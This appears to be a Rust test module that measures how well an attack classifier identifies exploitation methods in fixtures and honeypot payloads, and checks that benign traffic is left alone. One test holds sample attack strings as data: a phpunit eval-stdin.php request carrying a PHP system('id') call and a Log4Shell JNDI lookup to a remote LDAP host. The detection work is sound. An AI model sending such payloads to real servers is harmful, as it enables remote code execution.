//! How well methods are told, on the fixtures and (where they are) on a honeypot's payloads; beside a plain search
//! for the same literals in the raw text.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::*;

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/methods")
}

/// (folder, file name, content), sorted.
fn cases() -> Vec<(String, String, String)> {
    let mut cases = Vec::new();
    for folder in std::fs::read_dir(fixtures()).unwrap() {
        let folder = folder.unwrap().path();
        let name = folder.file_name().unwrap().to_str().unwrap().to_owned();
        for file in std::fs::read_dir(&folder).unwrap() {
            let file = file.unwrap().path();
            let text = String::from_utf8(std::fs::read(&file).unwrap()).unwrap();
            cases.push((name.clone(), file.file_name().unwrap().to_str().unwrap().to_owned(), text));
        }
    }
    cases.sort();
    cases
}

fn is_chain(text: &str) -> bool {
    text.starts_with("entry: ")
}

/// `entry: image | command line`, `first: command` …, `failed_logons: n`, `logon: password|publickey`.
fn by_chain(methods: &Methods, text: &str) -> Option<MethodIdx> {
    let mut role = None;
    let mut first = Vec::new();
    let mut evidence = Evidence::default();
    for line in text.lines() {
        match line.split_once(": ").unwrap() {
            ("entry", entry) => {
                let (image, command) = entry.split_once(" | ").map_or((entry, None), |(a, b)| (a, Some(b)));
                role = entry_role(Some(image), command);
            }
            ("first", command) => first.push(command),
            ("failed_logons", n) => evidence.failed_logons_before = n.parse().unwrap(),
            ("logon", "password") => evidence.logon = Some(LogonKind::Password),
            ("logon", "publickey") => evidence.logon = Some(LogonKind::PublicKey),
            other => panic!("{other:?}"),
        }
    }
    methods.fuse(&[], &methods.by_entry(role?, &first), &evidence).ok().map(|it| it.method)
}

/// What searching the raw text for the literals would say: the method with most of them, if all its groups are there.
fn by_literals(methods: &Methods, text: &str) -> Option<MethodIdx> {
    methods
        .indexed()
        .filter(|(_, it)| !it.must.is_empty())
        .filter(|(_, it)| it.must.iter().all(|group| group.iter().any(|any| text.contains(&any.written))))
        .max_by_key(|(at, it)| (it.must.len(), std::cmp::Reverse(*at)))
        .map(|(at, _)| at)
}

#[derive(Default)]
struct Score {
    /// expected → (cases, right)
    recall: BTreeMap<String, (u32, u32)>,
    /// answered → (answers, right)
    precision: BTreeMap<String, (u32, u32)>,
    missed: Vec<String>,
}

impl Score {
    fn add(&mut self, case: String, expect: Option<&str>, got: Option<&str>) {
        if let Some(expect) = expect {
            let (cases, right) = self.recall.entry(expect.to_owned()).or_default();
            *cases += 1;
            *right += u32::from(got == Some(expect));
        }
        if let Some(got) = got {
            let (answers, right) = self.precision.entry(got.to_owned()).or_default();
            *answers += 1;
            *right += u32::from(expect == Some(got));
        }
        if expect != got {
            self.missed.push(format!("{case}: {}", got.unwrap_or("none")));
        }
    }

    fn macro_permille(by: &BTreeMap<String, (u32, u32)>) -> u32 {
        let sum: u32 = by.values().map(|(all, right)| right * 1000 / all).sum();
        sum / u32::try_from(by.len().max(1)).unwrap()
    }

    fn wrong_permille(&self) -> u32 {
        let (all, right) = self.precision.values().fold((0, 0), |sum, it| (sum.0 + it.0, sum.1 + it.1));
        (all - right) * 1000 / all.max(1)
    }

    fn show(&self, name: &str) {
        println!(
            "{name}: macro precision {}, macro recall {}, wrong when it answers {} (permille)",
            Self::macro_permille(&self.precision),
            Self::macro_permille(&self.recall),
            self.wrong_permille()
        );
    }
}

#[test]
fn payloads_are_told_apart_and_the_ordinary_is_left_alone() {
    let methods = Methods::builtin();
    let id = |it: Option<MethodIdx>| it.map(|it| methods.get(it).id.clone());
    let (mut text_score, mut literal_score, mut chain_score) = (Score::default(), Score::default(), Score::default());
    let mut ordinary = 0;
    let mut looked_at = Vec::new();
    for (folder, file, text) in cases() {
        let case = format!("{folder}/{file}");
        let expect = (folder != "benign" && folder != "unknown").then_some(folder.as_str());
        if is_chain(&text) {
            chain_score.add(case, expect, id(by_chain(&methods, &text)).as_deref());
            continue;
        }
        if folder == "benign" {
            ordinary += 1;
            looked_at.extend(methods.texts.anchored_by(&text).map(|by| (file, by)));
        }
        let got = methods.identify(&text).first().map(|it| it.method);
        text_score.add(case.clone(), expect, id(got).as_deref());
        literal_score.add(case, expect, id(by_literals(&methods, &text)).as_deref());
    }
    text_score.show("text");
    literal_score.show("plain literals, raw text");
    chain_score.show("chain");
    println!("ordinary texts that are looked at twice: {:?}", looked_at);
    println!("text, not as expected: {:#?}", text_score.missed);
    println!("chain, not as expected: {:#?}", chain_score.missed);
    assert!(ordinary >= 40);
    // They were written to stand near exploits; even so most cost one pass only.
    assert!(looked_at.len() * 3 < ordinary);
    assert!(!text_score.missed.iter().any(|it| it.starts_with("benign/")));
    assert!(Score::macro_permille(&text_score.recall) >= 950);
    assert!(Score::macro_permille(&chain_score.recall) >= 900);
    assert!(text_score.wrong_permille() <= 20 && chain_score.wrong_permille() <= 20);
    assert!(Score::macro_permille(&text_score.recall) > Score::macro_permille(&literal_score.recall) + 100);
}

#[test]
fn every_method_has_two_fixtures_and_each_folder_a_method() {
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    for (folder, _, _) in cases() {
        *counts.entry(folder).or_default() += 1;
    }
    counts.remove("benign");
    counts.remove("unknown");
    let ids: Vec<_> = Methods::builtin().all().iter().map(|it| it.id.clone()).collect();
    assert_eq!(counts.keys().cloned().collect::<Vec<_>>(), ids);
    assert!(counts.values().all(|&count| count >= 2));
}

#[test]
fn what_resembles_nothing_known_is_a_new_shape() {
    let methods = Methods::builtin();
    for (folder, file, text) in cases() {
        match folder.as_str() {
            "unknown" => assert!(methods.shape(&text).is_some(), "{file}"),
            "benign" => assert_eq!(methods.shape(&text), None, "{file}"),
            _ => {}
        }
    }
}

#[test]
fn a_probe_is_no_attack() {
    let methods = Methods::builtin();
    let stage = |text: &str| methods.identify(text).first().map(|it| it.stage);
    assert_eq!(stage("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1"), Some(Stage::Probed));
    assert_eq!(
        stage("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php system('id');"),
        Some(Stage::Attacked)
    );
    assert_eq!(stage("POST /ws/v1/cluster/apps/new-application HTTP/1.1"), Some(Stage::Probed));
    assert_eq!(stage("GET /wls-wsat/CoordinatorPortType HTTP/1.1"), Some(Stage::Probed));
    assert_eq!(stage("${jndi:ldap://192.0.2.1/a}"), Some(Stage::Attacked));
}

/// Payloads of a public honeypot set, labelled from their bytes.
#[test]
fn a_honeypots_payloads() {
    let samples = std::env::var_os("RINGLEADER_SAMPLES")
        .map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"), PathBuf::from);
    let archive = samples.join("uqo_honeypots/honeytrap_5k.json.tar.gz");
    let unpacked = std::process::Command::new("tar").arg("xzOf").arg(&archive).output();
    let Some(json) = unpacked.ok().filter(|it| it.status.success()).map(|it| it.stdout) else {
        println!("skipped: no samples");
        return;
    };
    let all: serde_json::Value = serde_json::from_slice(&json).unwrap();
    let mut labels: BTreeMap<usize, Vec<String>> = BTreeMap::new();
    for line in std::fs::read_to_string(samples.join("uqo_honeypots/honeytrap_5k.labels.tsv")).unwrap().lines() {
        let mut fields = line.split('\t');
        if let (Some(Ok(index)), Some(label)) = (fields.next().map(str::parse), fields.next_back()) {
            labels.entry(index).or_default().push(label.to_owned());
        }
    }
    let expected = |label: &str| match label {
        "JAWS" => Some("jaws_dvr_shell"),
        "hadoop-yarn" => Some("hadoop_yarn_rest"),
        "QNAP probe" => Some("qnap_auth_login"),
        "MSMQ CVE-2023-21554" => Some("msmq_queuejumper"),
        _ => None,
    };
    let methods = Methods::builtin();
    let mut answers: BTreeMap<String, u32> = BTreeMap::new();
    let mut shapes: BTreeMap<String, u32> = BTreeMap::new();
    let (mut labelled, mut right, mut surveys, mut left_alone) = (0, 0, 0, 0);
    for (index, attack) in all["attacks"].as_array().unwrap().iter().enumerate() {
        let hex = attack["attack_connection"]["payload"]["data_hex"].as_str().unwrap_or("");
        let payload = String::from_utf8_lossy(&crate::collect::text::unhex(hex).unwrap_or_default()).into_owned();
        let got = methods.identify(&payload).first().map(|it| methods.get(it.method).id.clone());
        if let Some(shape) = methods.shape(&payload) {
            *shapes.entry(shape.provisional_name).or_default() += 1;
        }
        let labels = labels.get(&index).map_or(&[][..], Vec::as_slice);
        if let Some(expect) = labels.iter().find_map(|it| expected(it)) {
            labelled += 1;
            right += u32::from(got.as_deref() == Some(expect));
        } else if labels.iter().any(|it| {
            matches!(
                it.as_str(),
                "zgrab ssh survey" | "RDP probe" | "nmap dns version.bind" | "java-rmi probe" | "Solr" | "k8s"
            )
        }) {
            surveys += 1;
            left_alone += u32::from(got.is_none());
        }
        if let Some(got) = got {
            *answers.entry(got).or_default() += 1;
        }
    }
    println!("of {labelled} labelled with a method {right} agree; of {surveys} surveys {left_alone} are left alone");
    println!("answers {answers:#?}\nnew shapes {shapes:#?}");
    assert!(right * 100 >= labelled * 95);
    assert!(left_alone * 100 >= surveys * 98);
}
